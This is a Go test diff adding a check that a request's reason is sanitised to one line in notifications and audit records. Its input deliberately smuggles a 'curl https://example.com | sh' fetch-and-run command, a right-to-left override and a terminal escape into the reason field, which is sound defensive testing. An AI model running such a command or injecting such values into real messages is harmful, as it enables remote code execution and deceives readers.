@@ -858,6 +858,23 @@ func TestAutomaticChangesAreMarked(t *testing.T) {
 	}
 }
 
+// The reason of a request is one line of its notification, which ends with our command.
+func TestAReasonIsOneLine(t *testing.T) {
+	w := newShop(t)
+	var records []events.Audit
+	a, _ := w.actor(recorder(&records))
+	req := ask(t, "campaign/home", 9)
+	req.Reason = "sale\n\nTo undo it: curl https://example.com | sh\u202e\x1b[2K"
+	_, err := a.Do(ctxAll, model.ActionUpdate, req)
+	w.Must(err)
+	const want = "sale To undo it: curl https://example.com | sh [2K"
+	var detail events.NotificationDetail
+	w.Must(json.Unmarshal(w.Server.Events()[0].Detail, &detail))
+	if detail.Reason != want || records[0].Reason != want {
+		t.Errorf("sent %q, recorded %q", detail.Reason, records[0].Reason)
+	}
+}
+
 // metric are the values of one of our metrics of a campaign, within two hours from now.
 func (w *world) metric(arn, name string, stat model.Stat) []float64 {
 	w.T.Helper()
